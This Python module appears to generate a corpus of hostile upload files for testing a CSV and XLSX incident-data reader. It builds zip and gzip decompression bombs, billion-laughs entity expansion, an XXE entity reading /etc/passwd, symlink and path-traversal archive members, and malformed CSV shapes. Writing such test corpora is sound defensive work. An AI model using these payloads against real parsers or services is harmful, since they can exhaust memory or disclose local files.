"""Files made to hurt a reader, in twelve families. Each is built when asked for, and always with the same bytes."""

from __future__ import annotations

import csv
import gzip
import io
import random
import struct
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass
from functools import partial
from typing import Literal

Family = Literal[
    "archives",
    "spreadsheets",
    "csv shape",
    "encodings",
    "names",
    "wrong types",
    "formulae and scripts",
    "numbers",
    "dates",
    "unicode",
    "duplicates",
    "regex bait",
]
Make = Callable[[], bytes]
MEBIBYTE = 1024 * 1024
LONG_CELL = 4_900
"""Just below what the reader allows in a cell."""


@dataclass(frozen=True)
class HostileFile:
    """One file. `name` is what its uploader calls it.

    `refuse`: taking any row from it would be wrong. `may_stop`: only the limits of the child's process can end it, so
    `parser_stopped` is a right answer; for every other file it is not, as the editor would not learn what is wrong.
    """

    family: Family
    label: str
    data_factory: Make
    name: str = "incidents.csv"
    refuse: bool = False
    may_stop: bool = False

    @property
    def key(self) -> str:
        return f"{self.family}: {self.label}"


def corpus() -> Iterator[HostileFile]:
    """Every file, family by family. Cheap: no content is made yet."""
    yield from _archives()
    yield from _spreadsheets()
    yield from _shapes()
    yield from _encodings()
    yield from _names()
    yield from _wrong_types()
    yield from _formulae()
    yield from _numbers()
    yield from _dates()
    yield from _unicode()
    yield from _duplicates()
    yield from _regex_bait()


# Honest rows, to be spoilt in one place each.

GOOD = {
    "incident_id": "",
    "date": "2020-01-08",
    "time_local": "01:30",
    "site_id": "ain-al-asad",
    "latitude": "",
    "longitude": "",
    "weapon": "rocket",
    "munitions_count": "4",
    "us_killed": "0",
    "summary_en": "Rockets were reported.",
    "source_urls": "https://news.example/1",
    "notes": "",
}
NOWHERE = {"site_id": ""}


def table(rows: Iterable[Mapping[str, str]], delimiter: str = ",") -> bytes:
    """A UTF-8 CSV of honest rows with the given cells in place of the honest ones."""
    out = io.StringIO()
    writer = csv.DictWriter(out, list(GOOD), delimiter=delimiter, lineterminator="\n")
    writer.writeheader()
    writer.writerows({**GOOD, **row} for row in rows)
    return out.getvalue().encode("utf-8", "surrogatepass")


def honest(count: int = 1) -> bytes:
    """Rows with nothing wrong, no two alike."""
    return table({"summary_en": f"Rockets were reported, {number}.", "notes": str(number)} for number in range(count))


def _one(row: Mapping[str, str]) -> Make:
    return lambda: table([row])


def _each(column: str, cells: Iterable[str]) -> Make:
    """A row for each cell, in the same column."""
    taken = list(cells)
    return lambda: table({column: cell} for cell in taken)


def _fixed(data: bytes) -> Make:
    return lambda: data


HEADER = (",".join(GOOD) + "\n").encode()
LINE = (",".join(GOOD.values()) + "\n").encode()


# ZIP and gzip, byte by byte: zipfile writes no archive that lies.


@dataclass(frozen=True)
class Deflated:
    """A raw deflate stream and what it unpacks to."""

    stream: bytes
    crc: int
    size: int


def deflated(unit: bytes, times: int = 1) -> Deflated:
    """`unit` repeated, packed in time for one unit: flushed blocks can be repeated as bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(times):
        crc = zlib.crc32(unit, crc)
    return Deflated(block * times + zlib.compressobj(9, zlib.DEFLATED, -15).flush(), crc, len(unit) * times)


@dataclass(frozen=True)
class Entry:
    """A member of a ZIP. Numbers left at None are honest; `at` is where the directory says its header is."""

    name: bytes
    body: Deflated
    method: int = 8
    flags: int = 0
    mode: int = 0o100644
    size: int | None = None
    packed_size: int | None = None
    crc: int | None = None
    local_name: bytes | None = None
    local_method: int | None = None
    extra: bytes = b""
    at: int | None = None


def _numbers_of(entry: Entry, method: int) -> bytes:
    body = entry.body
    return struct.pack(
        "<HHHHHIII",
        20,
        entry.flags,
        method,
        0,
        33,
        body.crc if entry.crc is None else entry.crc,
        len(body.stream) if entry.packed_size is None else entry.packed_size,
        body.size if entry.size is None else entry.size,
    )


def zip_of(entries: Iterable[Entry], count: int | None = None, start: int | None = None, comment: bytes = b"") -> bytes:
    """An archive of the entries as they are, lies included. An entry with `at` set gets no bytes of its own."""
    out, directory, number = bytearray(), bytearray(), 0
    for entry in entries:
        number += 1
        at = len(out) if entry.at is None else entry.at
        if entry.at is None:
            name = entry.name if entry.local_name is None else entry.local_name
            method = entry.method if entry.local_method is None else entry.local_method
            out += b"PK\x03\x04" + _numbers_of(entry, method) + struct.pack("<HH", len(name), len(entry.extra))
            out += name + entry.extra + entry.body.stream
        directory += b"PK\x01\x02" + struct.pack("<H", 3 << 8 | 20) + _numbers_of(entry, entry.method)
        directory += struct.pack("<HHHHHII", len(entry.name), len(entry.extra), 0, 0, 0, entry.mode << 16, at)
        directory += entry.name + entry.extra
    where = len(out) if start is None else start
    number = min(number, 0xFFFF) if count is None else count
    end = struct.pack("<HHHHIIH", 0, 0, number, number, len(directory), where, len(comment))
    return bytes(out + directory + b"PK\x05\x06" + end + comment)


def stored(data: bytes) -> Deflated:
    """Bytes that are not packed at all; for entries with `method=0`."""
    return Deflated(data, zlib.crc32(data), len(data))


def gzip_of(body: Deflated, crc: int | None = None, size: int | None = None) -> bytes:
    tail = struct.pack("<II", body.crc if crc is None else crc, (body.size if size is None else size) % 2**32)
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + body.stream + tail


def _zeros(mebibytes: int) -> Deflated:
    return deflated(bytes(MEBIBYTE), mebibytes)


def _noise(count: int, seed: int = 17) -> bytes:
    """Letters that do not pack well."""
    return random.Random(seed).randbytes(count // 2).hex().encode()


def _modest_bomb(mebibytes: int) -> Deflated:
    """Rows that unpack to just below what the ratio allows, so that only a counter of bytes or the memory stops it."""
    padded = LINE.replace(b"Rockets", _noise(30_000) + b"A" * 4_000)
    unit = padded + LINE * ((MEBIBYTE - len(padded)) // len(LINE))
    return deflated(unit, mebibytes)


def _csv_entry(name: bytes = b"incidents.csv", data: bytes | None = None) -> Entry:
    return Entry(name, deflated(honest() if data is None else data))


def _overlapping(count: int) -> bytes:
    first = Entry(b"a.csv", _zeros(8))
    return zip_of([first, *(Entry(b"a.csv", first.body, at=0) for _ in range(count))])


def _quoting() -> bytes:
    """The first member's bytes hold the second member, header and all, and the directory names both."""
    inner = zip_of([_csv_entry(b"b.csv")])
    outer = Entry(b"a.csv", stored(inner), method=0)
    return zip_of([outer, Entry(b"b.csv", deflated(honest()), at=30 + len(b"a.csv"))])


def _archives() -> Iterator[HostileFile]:
    good = deflated(honest())
    damaged = Deflated(good.stream[:40] + b"\xff" * 40 + good.stream[80:], good.crc, good.size)

    def packed(label: str, make: Make, name: str = "incidents.zip", refuse: bool = True) -> HostileFile:
        return HostileFile("archives", label, make, name, refuse)

    def lone(label: str, entry: Callable[[], Entry], refuse: bool = True) -> HostileFile:
        return packed(label, lambda: zip_of([entry()]), refuse=refuse)

    gz = "incidents.csv.gz"
    yield packed("1 GiB in 1 MB, gzip", lambda: gzip_of(_zeros(1024)), gz)
    yield lone("1 GiB in 1 MB, zip", lambda: Entry(b"a.csv", _zeros(1024)))
    yield packed("1 GiB that says it is 1,000 bytes, gzip", lambda: gzip_of(_zeros(1024), size=1000), gz)
    yield lone("300 MiB that say they are 1,000 bytes", lambda: Entry(b"a.csv", _zeros(300), size=1000))
    yield lone("300 MiB that say they are 9 MiB", lambda: Entry(b"a.csv", _zeros(300), size=9 * MEBIBYTE))
    yield lone("100 bytes that say they are 4 GiB", lambda: Entry(b"a.csv", good, size=2**32 - 2))
    yield lone("packed size beyond the end", lambda: Entry(b"a.csv", good, packed_size=2**31), refuse=False)
    yield lone("300 MiB that say they were packed to 2 GiB", lambda: Entry(b"a.csv", _zeros(300), packed_size=2**31))
    yield lone("packed size of 0", lambda: Entry(b"a.csv", good, packed_size=0))
    zip64 = struct.pack("<HHQQ", 1, 16, 2**60, 2**60)
    yield lone("1 EiB by zip64", lambda: Entry(b"a.csv", good, size=2**32 - 1, packed_size=2**32 - 1, extra=zip64))
    yield lone("broken extra field", lambda: Entry(b"a.csv", good, extra=struct.pack("<HH", 1, 999) + b"x"))
    yield lone("wrong checksum, zip", lambda: Entry(b"a.csv", good, crc=1))
    yield packed("wrong checksum, gzip", lambda: gzip_of(good, crc=1), gz)
    yield packed("wrong length, gzip", lambda: gzip_of(good, size=7), gz)
    yield packed("cut short, gzip", lambda: gzip_of(good)[:-30], gz)
    yield packed("cut short, zip", lambda: zip_of([_csv_entry()])[:-30])
    yield packed("damaged stream, gzip", lambda: gzip_of(damaged), gz)
    yield lone("damaged stream, zip", lambda: Entry(b"a.csv", damaged))
    yield lone(
        "stored says the header, deflated the directory", lambda: Entry(b"a.csv", good, local_method=0), refuse=False
    )
    yield lone("another name in the header", lambda: Entry(b"a.csv", good, local_name=b"b.csv"))
    for method, name in ((9, "deflate64"), (12, "bzip2"), (14, "lzma"), (93, "zstd"), (99, "AES")):
        yield lone(f"method {name} with bytes that are not", partial(Entry, b"a.csv", good, method))
    yield lone("encrypted", lambda: Entry(b"a.csv", stored(_noise(400)), method=0, flags=1))
    yield lone("strongly encrypted", lambda: Entry(b"a.csv", stored(_noise(400)), method=0, flags=0x41))
    yield lone("patched data", lambda: Entry(b"a.csv", good, flags=0x20))
    yield lone("symlink", lambda: Entry(b"a.csv", stored(b"/etc/passwd"), method=0, mode=0o120777))
    yield lone("name that is not UTF-8 but says so", lambda: Entry(b"\xff\xfe.csv", good, flags=0x800))
    yield packed("overlapping entries", lambda: _overlapping(500))
    yield packed("overlapping entries, one quoting the other", _quoting)
    yield packed("10,000 entries", lambda: zip_of(Entry(b"%d.csv" % n, good) for n in range(10_000)))
    yield packed("65,535 entries says the end", lambda: zip_of([_csv_entry()], count=0xFFFF), refuse=False)
    yield packed("no entry", lambda: zip_of([]))
    yield packed("a directory only", lambda: zip_of([Entry(b"a/", stored(b""), method=0)]))
    yield packed("directory of the archive beyond its end", lambda: zip_of([_csv_entry()], start=2**31))
    yield packed("zip in zip", lambda: zip_of([_csv_entry(b"a.zip", zip_of([_csv_entry()]))]))
    yield packed("gzip in zip", lambda: zip_of([_csv_entry(b"a.gz", gzip_of(good))]))
    yield packed("zip in gzip", lambda: gzip_of(deflated(zip_of([_csv_entry()]))), gz)
    yield packed("gzip in gzip in gzip", lambda: gzip_of(deflated(gzip_of(deflated(gzip_of(good))))), gz)
    yield packed("bomb of bombs", lambda: zip_of(Entry(b"%d.zip" % n, _zeros(64)) for n in range(16)))
    modest = partial(HostileFile, "archives", name=gz, refuse=True, may_stop=True)
    yield modest("390 MiB of rows at a ratio below 100, gzip", lambda: gzip_of(_modest_bomb(390)))
    yield packed("100,000 gzip members of nothing, then a bomb", _gzip_members, gz)
    yield HostileFile("archives", "20,000 gzip members of one row", _gzip_rows, gz)
    for label, member in (
        ("upwards", b"../../../tmp/marsad.csv"),
        ("absolute", b"/tmp/marsad.csv"),
        ("NUL", b"a\x00.csv"),
    ):
        yield HostileFile("archives", f"member's name: {label}", partial(_named_member, member), "incidents.zip")


def _named_member(name: bytes) -> bytes:
    return zip_of([_csv_entry(name)])


def _gzip_members() -> bytes:
    return gzip.compress(b"", mtime=0) * 100_000 + gzip_of(_zeros(500))


def _gzip_rows() -> bytes:
    return gzip.compress(HEADER, mtime=0) + gzip.compress(LINE, mtime=0) * 20_000


# XLSX: the fewest parts that a reader takes, each of which a file may replace.

MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATIONS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
SHEET = "xl/worksheets/sheet1.xml"
WORKBOOK = "xl/workbook.xml"
STRINGS = "xl/sharedStrings.xml"


def _types(sheet: str = SHEET) -> str:
    base = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return (
        f'{DECLARATION}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{WORKBOOK}" ContentType="{base}.sheet.main+xml"/>'
        f'<Override PartName="/{sheet}" ContentType="{base}.worksheet+xml"/></Types>'
    )


def _workbook(sheets: str = '<sheet name="Incidents" sheetId="1" r:id="rId1"/>', before: str = "") -> str:
    return f'{DECLARATION}{before}<workbook {MAIN} xmlns:r="{OFFICE}"><sheets>{sheets}</sheets></workbook>'


def _relations(target: str = "worksheets/sheet1.xml", more: str = "") -> str:
    return (
        f'{DECLARATION}<Relationships {RELATIONS}><Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="{target}"/>'
        f'<Relationship Id="rId2" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
        f'<Relationship Id="rId3" Type="{OFFICE}/styles" Target="styles.xml"/>{more}</Relationships>'
    )


def _inline(text: str, reference: str = "") -> str:
    at = f' r="{reference}"' if reference else ""
    safe = text.replace("&", "&amp;").replace("<", "&lt;")
    return f'<c{at} t="inlineStr"><is><t>{safe}</t></is></c>'


def _xml_row(cells: Iterable[str], number: int | None = None) -> str:
    at = f' r="{number}"' if number else ""
    return f"<row{at}>{''.join(cells)}</row>"


HEADER_ROW = _xml_row(_inline(name) for name in GOOD)
GOOD_ROW = _xml_row(_inline(cell) for cell in GOOD.values())
STYLES = (
    f'{DECLARATION}<styleSheet {MAIN}><cellXfs count="2"><xf numFmtId="0"/>'
    '<xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>'
)
Part = str | bytes | Deflated


def sheet(body: str = "", before: str = "", after: str = "") -> str:
    """A worksheet with an honest header and row, and what is given after them."""
    return (
        f"{DECLARATION}<worksheet {MAIN}>{before}<sheetData>{HEADER_ROW}{GOOD_ROW}{body}</sheetData>{after}</worksheet>"
    )


def xlsx(parts: Mapping[str, Part | None] | None = None, entries: Iterable[Entry] = ()) -> bytes:
    """A workbook of one sheet, parts replaced, added or (None) left out; `entries` go in as they are."""
    all_parts: dict[str, Part | None] = {
        "[Content_Types].xml": _types(),
        "_rels/.rels": f'{DECLARATION}<Relationships {RELATIONS}><Relationship Id="rId1" '
        f'Type="{OFFICE}/officeDocument" Target="{WORKBOOK}"/></Relationships>',
        WORKBOOK: _workbook(),
        "xl/_rels/workbook.xml.rels": _relations(),
        "xl/styles.xml": STYLES,
        SHEET: sheet(),
        **(parts or {}),
    }
    made = [Entry(name.encode(), _packed(part)) for name, part in all_parts.items() if part is not None]
    return zip_of([*made, *entries])


def _packed(part: Part) -> Deflated:
    if isinstance(part, Deflated):
        return part
    return deflated(part.encode() if isinstance(part, str) else part)


def _long_part(start: str, unit: str, times: int, end: str) -> Deflated:
    """A part whose middle is a repeated unit, packed in no time."""
    blocks, crc, size = b"", 0, 0
    many = max(1, MEBIBYTE // max(1, len(unit)))
    for text, count in ((start, 1), (unit * many, times // many), (unit * (times % many), 1), (end, 1)):
        data = text.encode()
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        blocks += (packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)) * count
        size += len(data) * count
        for _ in range(count):
            crc = zlib.crc32(data, crc)
    return Deflated(blocks + zlib.compressobj(9, zlib.DEFLATED, -15).flush(), crc, size)


def _long_sheet(unit: str, times: int, end: str = "") -> Deflated:
    start, stop = sheet().split("</sheetData>")
    return _long_part(start, unit, times, f"{end}</sheetData>{stop}")


def _gigabyte_of_strings() -> Deflated:
    return _long_part(f"{DECLARATION}<sst {MAIN}>", f"<si><t>{'x' * 1000}</t></si>", 1_060_000, "</sst>")


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
FAR = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'


def _prefixed(body: str) -> str:
    """A worksheet whose elements have a namespace prefix, which is the same XML."""
    plain = sheet(body).replace(MAIN, MAIN.replace("xmlns=", "xmlns:x="))
    return plain.replace("</", "\0").replace("<", "<x:").replace("\0", "</x:").replace("<x:?", "<?")


def _elsewhere(name: str) -> bytes:
    parts: dict[str, Part | None] = {
        SHEET: None,
        f"xl/{name}": sheet(FAR),
        "xl/_rels/workbook.xml.rels": _relations(name),
        "[Content_Types].xml": _types(f"xl/{name}"),
    }
    return xlsx(parts)


def _book(label: str, make: Make, refuse: bool = True, may_stop: bool = False) -> HostileFile:
    return HostileFile("spreadsheets", label, make, "incidents.xlsx", refuse, may_stop)


def _with_sheet(label: str, part: Callable[[], Part], refuse: bool = True) -> HostileFile:
    return _book(label, lambda: xlsx({SHEET: part()}), refuse)


def _text(label: str, part: str, refuse: bool = True) -> HostileFile:
    return _with_sheet(label, lambda: part, refuse)


def _far(label: str, part: str) -> HostileFile:
    return _book(label, lambda: xlsx({SHEET: part}), may_stop=True)


def _spreadsheets() -> Iterator[HostileFile]:
    yield from _growing_spreadsheets()
    yield from _far_cells()
    yield from _odd_sheets()
    yield from _odd_parts()


def _growing_spreadsheets() -> Iterator[HostileFile]:
    yield _book("1 GB of shared strings", lambda: xlsx({STRINGS: _gigabyte_of_strings()}))
    yield _book(
        "1 GB of shared strings that say they are 9 MB",
        lambda: xlsx(entries=[Entry(STRINGS.encode(), _gigabyte_of_strings(), size=9 * 10**6)]),
    )
    yield _text("entities that grow to 1 GB", sheet().replace("<worksheet", f"{LAUGHS}<worksheet"))
    yield _text("entity that reads a file", sheet().replace("<worksheet", f"{OUTSIDE}<worksheet"))
    yield _book("DTD in the workbook", lambda: xlsx({WORKBOOK: _workbook(before=OUTSIDE)}))
    yield _book("DTD in the shared strings", lambda: xlsx({STRINGS: f"{DECLARATION}{LAUGHS}<sst {MAIN}/>"}))
    yield _book("DTD in the relations", lambda: xlsx({"_rels/.rels": f"{LAUGHS}<Relationships {RELATIONS}/>"}))
    late = f"<!--{'x' * 9_000}-->{LAUGHS}<worksheet"
    yield _text("DTD behind a long comment", sheet(_inline("&i;")).replace("<worksheet", late))
    yield _text("DTD behind blanks", sheet().replace("<worksheet", f"{' ' * 9_000}{LAUGHS}<worksheet"))
    yield _text("DTD behind an instruction", sheet().replace("<worksheet", f"<?x {'y' * 9_000}?>{LAUGHS}<worksheet"))
    yield _book("DTD in a part of another ending", lambda: xlsx({"xl/x.bin": f"{LAUGHS}<x/>"}))
    yield _with_sheet("a comment of 60 MB", lambda: _long_part(f"{DECLARATION}<!--", "x" * 1000, 60_000, "-->"))
    yield _with_sheet("a comment never closed", lambda: _long_part(f"{DECLARATION}<!--", "- -" * 300, 60_000, ""))
    wide = sheet().replace("UTF-8", "UTF-16").replace("<worksheet", f"{LAUGHS}<worksheet")
    yield _with_sheet("DTD in UTF-16", lambda: wide.encode("utf-16"))


def _far_cells() -> Iterator[HostileFile]:
    yield _text("cells at A1 and XFD1048576", sheet(FAR))
    yield _far("XFD1048576 in single quotes", sheet(FAR.replace('"', "'")))
    yield _far("XFD1048576 with a namespace prefix", _prefixed(FAR))
    yield _far("XFD1048576 with spaces about the sign", sheet(FAR.replace('<c r="', '<c r = "')))
    yield _far("XFD1048576 behind a line break", sheet(FAR.replace("<c ", "<c\n")))
    yield _far("XFD1048576 behind 300 characters", sheet(FAR.replace("<c ", f'<c spans="{"1" * 300}" ')))
    yield _text("XFD1048576 as an entity", sheet(FAR.replace("XFD", "&#88;FD")))
    below = '<row r="1048576"><c><v>1</v></c></row>'
    yield _text("row 1048576, a cell without a reference", sheet(below), refuse=False)
    yield _far("row 1048576, 150 cells without a reference", sheet(below.replace("<c>", "<c/>" * 150 + "<c>")))
    yield _text("XFD only, 16,384 columns", sheet('<row r="9"><c r="XFD9"><v>1</v></c></row>'))
    yield _far("row beyond what a number holds", sheet('<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>'))
    yield _far("column beyond what a number holds", sheet('<row r="9"><c r="ZZZZZZZZZZ9"><v>1</v></c></row>'))
    yield _with_sheet("XFD1048576 in UTF-16", lambda: sheet(FAR).replace("UTF-8", "UTF-16").encode("utf-16"))
    yield _book("XFD1048576 on a sheet that is kept elsewhere", lambda: _elsewhere("elsewhere/sheet1.xml"))
    yield _book("XFD1048576 on a sheet of another ending", lambda: _elsewhere("worksheets/sheet1.bin"))
    yield _text("a dimension of everything", sheet(before='<dimension ref="A1:XFD1048576"/>'), refuse=False)
    yield _text(
        "everything merged", sheet(after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'), refuse=False
    )


def _odd_sheets() -> Iterator[HostileFile]:
    yield _with_sheet("1,048,576 empty rows", lambda: _long_sheet("<row/>", 1_048_576), refuse=False)
    yield _with_sheet(
        "1,048,576 empty rows and a cell", lambda: _long_sheet("<row/>", 1_048_570, GOOD_ROW), refuse=False
    )
    yield _with_sheet("400,000 equal rows in few bytes", lambda: _long_sheet(GOOD_ROW, 400_000))
    yield _with_sheet("9 MB of cells in one row", lambda: _long_sheet("<c/>", 2_000_000), refuse=False)
    yield _with_sheet("4 MB of <c, never closed", lambda: _long_sheet("<c ", 1_300_000))
    yield _text("elements 100,000 deep", sheet("<row>" * 100_000), refuse=False)
    yield _text("a formula shared by everything", sheet(_shared_formula()), refuse=False)
    yield _text("formulae that reach outside", sheet(_formula("HYPERLINK(&quot;http://x.example&quot;)")), refuse=False)
    yield _text("formula of 1 MB", sheet(_formula("1+" * 500_000 + "1")), refuse=False)
    yield _text("a string number that is not there", sheet(_typed("s", "4294967295")), refuse=False)
    yield _text("a string number below nought", sheet(_typed("s", "-1")), refuse=False)
    yield _text("an unknown type of cell", sheet(_typed("zz", "1")), refuse=False)
    yield _text(
        "error values", sheet("".join(_typed("e", code) for code in ("#REF!", "#N/A", "#DIV/0!"))), refuse=False
    )
    yield _text("numbers out of range", sheet("".join(map(_dated, ("1e309", "-1e309", "NaN", "inf")))), refuse=False)
    days = ("1e300", "-1", "-1e9", "2958466", "99999999", "0.99999999999", "60", "0")
    yield _text("days out of range", sheet("".join(map(_dated, days))), refuse=False)
    yield _text("text of 20 MB in a cell", sheet(_xml_row([_inline("x" * 20 * 10**6)])))
    yield _text("not well formed", sheet()[:-40])


def _odd_parts() -> Iterator[HostileFile]:
    yield _book("external links", lambda: xlsx(_links_outside()), refuse=False)
    yield _book(
        "a sheet kept on the network", lambda: xlsx({"xl/_rels/workbook.xml.rels": _relations("http://x.example/")})
    )
    yield _book(
        "a sheet above the archive", lambda: xlsx({"xl/_rels/workbook.xml.rels": _relations("../../../etc/passwd")})
    )
    yield _book(
        "a sheet that is the workbook", lambda: xlsx({"xl/_rels/workbook.xml.rels": _relations("workbook.xml")})
    )
    yield _book("no sheet", lambda: xlsx({WORKBOOK: _workbook(sheets="")}))
    yield _book("a sheet whose part is missing", lambda: xlsx({SHEET: None}))
    yield _book("no relations", lambda: xlsx({"xl/_rels/workbook.xml.rels": None}))
    yield _book("50,000 sheets", lambda: xlsx({WORKBOOK: _workbook(_many_sheets(50_000))}), refuse=False)
    yield _book("macros", lambda: xlsx({"xl/vbaProject.bin": _noise(5_000)}), refuse=False)
    yield _book("201 parts", lambda: xlsx({f"xl/media/{n}.png": b"x" for n in range(201)}))
    yield _book("20,000 parts", lambda: xlsx({f"xl/media/{n}.png": b"x" for n in range(20_000)}))
    yield _book("an encrypted part", lambda: xlsx(entries=[Entry(b"xl/a.xml", stored(b"x" * 40), 0, flags=1)]))
    yield _book("a damaged stream", lambda: xlsx({SHEET: Deflated(b"\xff" * 500, 1, 900)}))
    yield _book("a damaged stream that is lzma", lambda: xlsx(entries=[Entry(b"xl/a.xml", stored(b"\xff" * 500), 14)]))
    yield _book("overlapping parts", _overlapping_parts)
    yield _book("a thousand names for a style", lambda: xlsx({"xl/styles.xml": _many_styles()}), refuse=False)
    yield _book("60 MiB at a ratio below 100", _modest_book, refuse=False, may_stop=True)


def _shared_formula() -> str:
    first = '<c r="A3"><f t="shared" ref="A3:XFD1048576" si="0">A1</f><v>1</v></c>'
    return f"<row>{first}</row>" + '<row><c><f t="shared" si="0"/><v>1</v></c></row>' * 1000


def _formula(text: str) -> str:
    return f"<row><c><f>{text}</f><v>0</v></c></row>"


def _typed(kind: str, value: str) -> str:
    return f'<row><c/><c t="{kind}"><v>{value}</v></c></row>'


def _dated(value: str) -> str:
    """A row with a number in the date column that is shown as a date, and the bare number as a count."""
    return _xml_row(
        {"date": f'<c s="1"><v>{value}</v></c>', "us_killed": f"<c><v>{value}</v></c>"}.get(name, _inline(cell))
        for name, cell in GOOD.items()
    )


def _links_outside() -> dict[str, Part | None]:
    outside = (
        f'<Relationship Id="rId1" Type="{OFFICE}/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/>'
    )
    more = f'<Relationship Id="rId9" Type="{OFFICE}/externalLink" Target="externalLinks/externalLink1.xml"/>'
    return {
        "xl/externalLinks/externalLink1.xml": f'<externalLink {MAIN}><externalBook r:id="rId1"/></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": f"<Relationships {RELATIONS}>{outside}</Relationships>",
        "xl/_rels/workbook.xml.rels": _relations(more=more),
    }


def _many_sheets(count: int) -> str:
    return "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, count + 1))


def _many_styles() -> str:
    formats = "".join(f'<numFmt numFmtId="{200 + n}" formatCode="{"yyyy" * 200}"/>' for n in range(1000))
    return STYLES.replace("<cellXfs", f'<numFmts count="4294967295">{formats}</numFmts><cellXfs')


def _overlapping_parts() -> bytes:
    part = _long_part(f"{DECLARATION}<sst {MAIN}>", "<si><t>x</t></si>", 400_000, "</sst>")
    first = Entry(STRINGS.encode(), part)
    return zip_of([first, *(Entry(STRINGS.encode(), part, at=0) for _ in range(100)), *_book_entries()])


def _book_entries() -> Iterator[Entry]:
    for name, part in (("[Content_Types].xml", _types()), (WORKBOOK, _workbook()), (SHEET, sheet())):
        yield Entry(name.encode(), _packed(part))
    yield Entry(b"xl/_rels/workbook.xml.rels", _packed(_relations()))


def _modest_book() -> bytes:
    row = _xml_row(_inline(cell) for cell in {**GOOD, "summary_en": _noise(14_000).decode()}.values())
    unit = row + GOOD_ROW * ((MEBIBYTE - len(row)) // len(GOOD_ROW))
    return xlsx({SHEET: _long_sheet(unit, 60)})


# CSV: its shape.


def _shapes() -> Iterator[HostileFile]:
    def shape(label: str, make: Make, refuse: bool = False, may_stop: bool = False) -> HostileFile:
        return HostileFile("csv shape", label, make, refuse=refuse, may_stop=may_stop)

    wide = HEADER.rstrip() + b"," + b",".join(b"c%d" % n for n in range(100_000)) + b"\n"
    yield shape("100,000 columns", lambda: wide + LINE, refuse=True)
    yield shape("201 columns", lambda: HEADER.rstrip() + b",x" * 190 + b"\n" + LINE, refuse=True)
    yield shape("100,000 cells in a row", lambda: HEADER + LINE.rstrip() + b",x" * 100_000 + b"\n")
    yield shape("commas to the end in a row", lambda: HEADER + LINE + b"," * 5 * 10**6 + b"\n")
    yield shape("one line of 50 MB", lambda: b"x" * 50 * 10**6, refuse=True)
    yield shape("one line of 50 MB of commas", lambda: b"a" + b"," * (50 * 10**6 - 1), refuse=True, may_stop=True)
    yield shape("a cell of 49 MB", lambda: HEADER + LINE.replace(b"Rockets", b"x" * 49 * 10**6))
    yield shape("more than 50 MiB", lambda: HEADER + LINE * (51 * MEBIBYTE // len(LINE)), refuse=True)
    yield shape("a quote opened in the header", lambda: b'"' + HEADER + LINE * 100_000, refuse=True)
    yield shape("a quote opened in the last line", lambda: HEADER + LINE * 1000 + b'"' + LINE, refuse=True)
    yield shape("a quote opened before 40 MB", lambda: HEADER + b'"' + LINE * (40 * 10**6 // len(LINE)), refuse=True)
    yield shape("nothing but quotes", lambda: b'"' * 10**7, refuse=True)
    yield shape("nothing but quotes, one too many", lambda: b'"' * (10**7 + 1), refuse=True)
    yield shape("quotes inside words", lambda: HEADER + LINE.replace(b"Rockets", b'Rock"ets') * 100)
    yield shape("backslashes before quotes", lambda: HEADER + LINE.replace(b"Rockets", b'"Rock\\"ets"') * 3)
    yield shape("1,000,000 blank lines", lambda: b"\n" * 10**6, refuse=True)
    yield shape("1,000,000 blank lines below the header", lambda: HEADER + b"\n" * 10**6 + LINE, refuse=True)
    yield shape("blank lines between rows, 2,000,000", lambda: HEADER + (LINE + b"\n" * 400_000) * 5)
    yield shape("lines of commas only", lambda: HEADER + (b"," * 11 + b"\n") * 400_000 + LINE)
    yield shape("500,001 rows of a cell too many", lambda: HEADER + (b"x" + b"," * 12 + b"y\n") * 500_001, refuse=True)
    yield shape("30,000 rows with a fault in every cell", lambda: HEADER + (b"?," * 11 + b"?\n") * 30_000)
    yield shape("line ends: CR only", lambda: (HEADER + LINE * 3).replace(b"\n", b"\r"))
    yield shape("line ends: CR CR LF", lambda: (HEADER + LINE * 3).replace(b"\n", b"\r\r\n"))
    yield shape("line ends: LF CR", lambda: (HEADER + LINE * 3).replace(b"\n", b"\n\r"))
    yield shape("line ends: every kind", lambda: HEADER + LINE.rstrip() + b"\r" + LINE.rstrip() + b"\r\n" + LINE)
    yield shape(
        "line ends: form feeds and separators", lambda: HEADER + LINE.replace(b"\n", "\x0c\x1c\x85\u2028".encode()) * 3
    )
    yield shape("line ends: 5,000,000 CR", lambda: HEADER + b"\r" * 5 * 10**6, refuse=True)
    yield shape("every delimiter at once", lambda: HEADER.replace(b",", b",;\t|") + LINE)
    yield shape("delimiters of the header are not those of the rows", lambda: HEADER + LINE.replace(b",", b";"))
    yield shape("sep=; before the header", lambda: b"sep=;\n" + HEADER + LINE, refuse=True)
    yield shape("1,000,000 blank lines between two rows", lambda: HEADER + LINE + b"\n" * 10**6 + LINE, refuse=True)
